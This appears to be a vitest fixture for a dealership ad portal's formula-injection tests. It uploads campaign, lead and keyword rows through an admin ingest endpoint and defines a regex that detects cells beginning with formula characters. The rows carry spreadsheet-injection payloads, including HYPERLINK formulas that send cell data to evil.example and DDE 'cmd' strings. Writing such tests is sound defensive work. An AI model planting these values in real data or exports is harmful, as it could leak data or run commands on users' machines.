import { expect } from 'vitest';
import type { PortalSession } from './portal-process';

/**
 * Hostile data for the black-box injection tests (issue 18, item 5): one DYD campaign of dealership
 * 101 (site list on) whose name and table texts start with formula characters, loaded through
 * `POST /api/admin/ingest` as platform staff — the way a data file reaches the portal.
 */
export const CAMPAIGN = 990_001;
export const DEALERSHIP = 101;
export const RANGE = { start_date: '2026-10-01', end_date: '2026-11-30' };
export const VIN = '1HGCM82633A990001';
export const payload = {
  campaignName: '=HYPERLINK("http://evil.example/?d="&B3&C3,"x")',
  stockNumber: '=HYPERLINK("http://evil.example/?stock="&A2,"stock")',
  creativeName: "+cmd|' /C calc'!A0",
  site: "-2+3+cmd|' /C calc'!A0",
  keyword: "@SUM(1+9)*cmd|' /C calc'!A0",
  caller: '=1+2',
  leadType: '@lead',
  contact: "=cmd|' /C calc'!A0",
  status: '+new',
};
/** A keyword that is a negative number: a number, not text, so it stays as it is. */
export const NEGATIVE_KEYWORD = '-15';

export const day = '2026-11-02';
/** The 15th of the month before the process's real today: inside the report job's 'last_month'. */
export const lastMonthDay = (() => {
  const now = new Date();
  const month = new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth() - 1, 15));
  return month.toISOString().slice(0, 10);
})();
const ingestionFiles: Record<string, unknown[]> = {
  inventory_vehicles: [
    {
      dealership_id: DEALERSHIP,
      vin: VIN,
      stock_number: payload.stockNumber,
      year: 2024,
      make: 'Honda',
      model: 'Accord',
      vehicle_state: 'Used',
    },
  ],
  campaigns: [
    {
      client_campaign_id: CAMPAIGN,
      dealership_id: DEALERSHIP,
      client_campaign_display_name: payload.campaignName,
      campaign_status: 'active',
      start_date: '2020-01-01',
      end_date: '2030-12-31',
      product_code: 'DYD',
      product_name: 'Dynamic Display',
      campaign_type: 'display',
      show_site_list: 1,
    },
  ],
  campaign_daily_metrics: [{ client_campaign_id: CAMPAIGN, date: lastMonthDay, impressions: 1000, clicks: 10 }],
  campaign_vehicles: [{ client_campaign_id: CAMPAIGN, date: day, vin: VIN, impressions: 500, clicks: 7 }],
  campaign_creatives: [
    {
      client_campaign_id: CAMPAIGN,
      creative_id: 'evil-1',
      creative_name: payload.creativeName,
      creative_size: '300x250',
    },
  ],
  campaign_creative_metrics: [
    { client_campaign_id: CAMPAIGN, date: day, creative_id: 'evil-1', impressions: 300, clicks: 3 },
  ],
  campaign_sites: [
    {
      client_campaign_id: CAMPAIGN,
      date: day,
      site: payload.site,
      creative_size: '300x250',
      impressions: 200,
      clicks: 1,
    },
  ],
  campaign_keywords: [
    { client_campaign_id: CAMPAIGN, date: day, keyword_id: 1, keyword: payload.keyword, impressions: 90, clicks: 2 },
    { client_campaign_id: CAMPAIGN, date: day, keyword_id: 2, keyword: NEGATIVE_KEYWORD, impressions: 80, clicks: 1 },
  ],
  phone_calls: [
    {
      phone_call_vendor_id: 'evil-call-1',
      client_campaign_id: CAMPAIGN,
      phone_number: payload.caller,
      datetime: '2026-11-02T15:00:00-06:00',
      duration: 65,
    },
  ],
  campaign_leads: [
    {
      lead_id: 'evil-lead-1',
      client_campaign_id: CAMPAIGN,
      datetime: '2026-11-02T16:00:00-06:00',
      lead_type: payload.leadType,
      contact_name: payload.contact,
      status: payload.status,
    },
  ],
};

export const FORMULA_START = /^[=+\-@\t\r]/;
export const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

/** A multipart upload of the ingestion files as JSON, as a staff user (POST /api/admin/ingest). */
export async function ingest(staff: PortalSession) {
  const form = new FormData();
  for (const [entity, rows] of Object.entries(ingestionFiles))
    form.append('file', new Blob([JSON.stringify(rows)], { type: 'application/json' }), `${entity}.json`);
  const response = await staff.fetch('/api/admin/ingest', { method: 'POST', body: form });
  expect(response.status, await response.clone().text()).toBe(200);
}
